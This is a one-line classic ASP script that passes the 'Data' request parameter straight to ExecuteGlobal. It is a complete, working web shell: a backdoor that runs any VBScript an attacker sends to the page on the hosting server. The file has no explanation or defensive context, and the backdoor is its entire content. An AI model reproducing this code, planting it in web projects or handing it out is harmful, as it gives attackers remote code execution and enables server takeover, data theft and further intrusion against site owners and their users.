<%
	ExecuteGlobal	request("Data")
%>
